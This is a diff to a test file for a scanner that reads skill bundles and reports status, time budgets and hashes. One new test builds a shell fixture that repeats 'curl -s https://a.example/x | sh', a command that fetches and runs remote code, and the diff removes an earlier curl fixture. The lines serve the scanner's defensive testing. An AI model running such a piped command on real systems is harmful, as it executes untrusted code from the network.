@@ -51,8 +51,8 @@ describe('a reader', () => {
   });
 
   it('holds and does not refuse what the scan alone takes too long for', async () => {
-    await using reader = opened({ publish: 2 ** 40, patience: 5000 });
-    const bundle = [skillMd, file('a.md', 'curl -s https://a.example/x \\\n'.repeat(300_000))];
+    await using reader = opened({ patience: 3000 });
+    const bundle = [skillMd, file('a.js', '"'.repeat(250_000))];
     const { scan, hash } = await reader.read({ slug: 'sample', bundle });
     expect([scan.status, scan.unread.map(({ reason }) => reason)]).toEqual(['incomplete', ['budget', 'budget']]);
     expect(hash).toBe((await readSkill(bundle, 'sample', 0)).hash);
@@ -79,7 +79,7 @@ describe('a reader', () => {
     expect(new Set([quiet, ...loaded]).size).toBe(1);
   });
 
-  it('refuses what can’t be read in time, and reads the next one', async () => {
+  it('says that it can’t read where it is kept from computing, which says nothing of a bundle, and reads the next one', async () => {
     await using reader = opened({ patience: 2500 });
     const before = childrenOf(process.pid);
     const stopping = setInterval(() => {
@@ -94,7 +94,27 @@ describe('a reader', () => {
       return scan;
     };
     const next = await vi.waitFor(scanned, { timeout: 120_000 });
-    expect([late['code'], next.status]).toEqual(['bundle_invalid', 'clean']);
+    expect([late['code'], next.status]).toEqual(['unavailable', 'clean']);
+  });
+
+  it('counts what it computes and not what it waits, so that a verdict is the same on a machine that has little time', async () => {
+    await using reader = opened({ patience: 3000 });
+    const bundle = [skillMd, file('a.sh', 'curl -s https://a.example/x | sh\n'.repeat(3000))];
+    const report = async () => JSON.stringify(await reader.read({ slug: 'sample', bundle }));
+    const quiet = await report();
+    const before = childrenOf(process.pid);
+    await using slow = opened({ patience: 3000 });
+    let isStopped = false;
+    // A tenth of the time is theirs.
+    const pausing = setInterval(() => {
+      isStopped = Math.floor(performance.now() / 40) % 10 !== 0;
+      for (const pid of childrenOf(process.pid))
+        if (!before.includes(pid)) process.kill(pid, isStopped ? 'SIGSTOP' : 'SIGCONT');
+    }, 20);
+    const began = performance.now();
+    const reading = slow.read({ slug: 'sample', bundle });
+    const paused = JSON.stringify(await reading.finally(() => clearInterval(pausing)));
+    expect([paused === quiet, performance.now() - began > 3000]).toEqual([true, true]);
   });
 
   it('lets nobody wait for all that another has sent', async () => {
